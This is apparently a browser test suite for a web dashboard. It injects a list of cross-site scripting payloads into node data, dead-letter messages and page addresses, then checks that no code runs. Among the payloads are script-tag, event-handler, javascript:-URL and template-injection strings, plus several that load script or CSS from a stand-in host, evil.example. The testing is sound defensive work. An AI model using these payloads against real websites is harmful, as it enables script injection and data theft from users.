import { afterAll, beforeAll, expect, it } from "vitest";
import type { HttpBench } from "../app/registration/http-bench.ts";
import { waitUntil } from "../real/services/wait-until.ts";
import { describePage } from "./describe-page.ts";
import { type PageSession, openPage } from "./page-session.ts";
import { openToyDomains, type ToyDomains } from "./registration/toy-domains.ts";

const PATIENCE = { timeout: 60_000 };
const PAGES = [
  "/",
  "/nodes",
  "/nodes/hostile-0",
  "/contracts",
  "/events",
  "/dead-letters",
  "/playground",
  "/docs",
  "/docs/api",
  "/schemas",
  "/domains/books",
  "/domains/books/entities",
  "/domains/books/entities/%3Cscript%3Ealert(1)%3C%2Fscript%3E",
  "/domains/books/events",
  "/domains/books/dead-letters",
] as const;

/** Texts that are known to run code in pages that do not escape them. */
const CORPUS = [
  `<script>alert(1)</script>`,
  `<img src=x onerror=alert(1)>`,
  `"><svg onload=alert(1)>`,
  `'-alert(1)-'`,
  `javascript:alert(1)`,
  `{{constructor.constructor('alert(1)')()}}`,
  `<iframe srcdoc="<script>alert(1)</script>">`,
  `</title><script src=//evil.example/x.js></script>`,
  `<a href="javascript:alert(1)">click</a>`,
  `<style>@import 'http://evil.example/x.css'</style>`,
  `\u202e<b>gnp.exe`,
  `<object data="http://evil.example/x">`,
  `&lt;script&gt;alert(1)&lt;/script&gt;`,
  `--><script>alert(1)</script><!--`,
  `__proto__`,
] as const;

const UNFOLD = `document.querySelectorAll("main details:not([open]) > summary").forEach((summary) => summary.click())`;

describePage("the page, given texts that try to run code", (browser) => {
  let toys: ToyDomains;
  let bench: HttpBench;
  let seen: PageSession;
  beforeAll(async () => {
    toys = await openToyDomains();
    bench = toys.bench;
    for (const [index, text] of CORPUS.entries()) {
      const about = { node_id: `hostile-${index}`, node_type: "effect", node_name: text, node_role: text };
      const more = {
        capabilities: [text, `${text} `],
        metadata: { [text]: text },
        endpoints: { [text]: `http://evil.example/${index}` },
        [text]: text,
      };
      expect((await bench.publish("NodeIntrospectionEvent", { ...about, ...more })).status).toBe(202);
      await bench.until(`hostile-${index}`, "AWAITING_ACK");
    }
    await Promise.all(CORPUS.map((text) => toys.order("books", text)));
    await deadLetters();
    seen = await openPage(browser(), bench.url, "/");
    await seen.page.addInitScript(
      "globalThis.alert = (what) => { globalThis.alerted = what; console.error('alerted ' + what); }",
    );
  });
  afterAll(async () => {
    await seen?.close();
    await toys?.close();
  });

  async function deadLetters(): Promise<void> {
    const { bus, domain } = bench.system;
    const topic = domain.consumed[0]?.topic ?? "";
    const bytes = [...CORPUS.map((text) => Buffer.from(text)), Buffer.from([0, 255, 254, 27, 91, 50, 74, 60, 98, 62])];
    const messages = bytes.map((value, index) => ({
      topic,
      partition: index % 4,
      key: value,
      value,
      headers: { [`h${index}`]: value },
    }));
    await bus.publish(messages, { timeoutMs: 30_000 });
    await waitUntil(
      async () => {
        const { body } = await bench.ask<{ items: unknown[] }>("/api/v1/dead-letters");
        if (body.items.length !== bytes.length) throw new Error(`${body.items.length} dead letters`);
      },
      { what: `${bytes.length} dead letters`, timeoutMs: 60_000 },
    );
  }

  const assertHarmless = async (expected = /^$/): Promise<void> => {
    expect(await seen.page.evaluate("globalThis.alerted ?? null")).toBe(null);
    // No text became an element.
    expect(
      await seen.page.evaluate(
        `[...document.querySelectorAll("iframe, object, embed, main script, main style, main svg[onload], main ` +
          `[onerror], main b, a[href^='javascript:']")].map((element) => element.outerHTML)`,
      ),
    ).toEqual([]);
    expect(seen.problems.splice(0).filter((line) => !expected.test(line))).toEqual([]);
  };

  it.each(PAGES)("%s runs no code, sends no request elsewhere, and makes no element of them", async (path) => {
    await seen.open(path);
    // The content of dead letters is shown only unfolded. Waiting for an idle network would never end, because of the
    // event stream.
    await seen.page.evaluate(UNFOLD);
    await seen.page.waitForTimeout(500);
    await assertHarmless();
  });

  it("shows new events with the texts of their nodes", async () => {
    await seen.open("/events");
    await seen.page.getByText("Connected.").waitFor(PATIENCE);
    for (const [index, text] of CORPUS.slice(0, 5).entries()) {
      const about = { node_id: `late-${index}`, node_type: "effect", node_name: text, metadata: { [text]: text } };
      await bench.publish("NodeIntrospectionEvent", about);
    }
    await seen.page.getByText("late-4").first().waitFor(PATIENCE);
    await seen.page.evaluate(UNFOLD);
    await seen.page.waitForTimeout(200);
    await assertHarmless();
  });

  it("shows the names of nodes unchanged", async () => {
    await seen.open("/nodes");
    for (const [index, text] of CORPUS.slice(0, 5).entries()) {
      const row = seen.page.getByRole("row").filter({ hasText: `hostile-${index}` });
      await row.first().getByText(text.trim(), { exact: true }).first().waitFor(PATIENCE);
    }
    await assertHarmless();
  });

  it("shows the ids of entities unchanged", async () => {
    await seen.open("/domains/books/entities");
    for (const text of CORPUS)
      await seen.page.getByRole("link", { name: text.trim(), exact: true }).first().waitFor(PATIENCE);
    await assertHarmless();
  });

  it.each(CORPUS)("runs no code on any page whose address has %s", async (text) => {
    const asked = encodeURIComponent(text);
    for (const path of [
      `/nodes?q=${asked}&state=${asked}&capability=${asked}`,
      `/nodes/${asked}`,
      `/contracts?file=${asked}&line=${asked}`,
      `/events?type=${asked}&entity=${asked}`,
      `/dead-letters?code=${asked}&topic=${asked}`,
      `/playground?${asked}#${asked}`,
      `/domains/books/entities?q=${asked}&state=${asked}`,
      `/domains/books/entities/${asked}`,
      `/domains/${asked}`,
    ]) {
      await seen.open(path);
      await seen.page.waitForTimeout(50);
      // The server refuses an invalid name, and Chromium writes that to the console.
      await assertHarmless(/^console: Failed to load resource: the server responded with a status of 40[04]/);
    }
  });
});
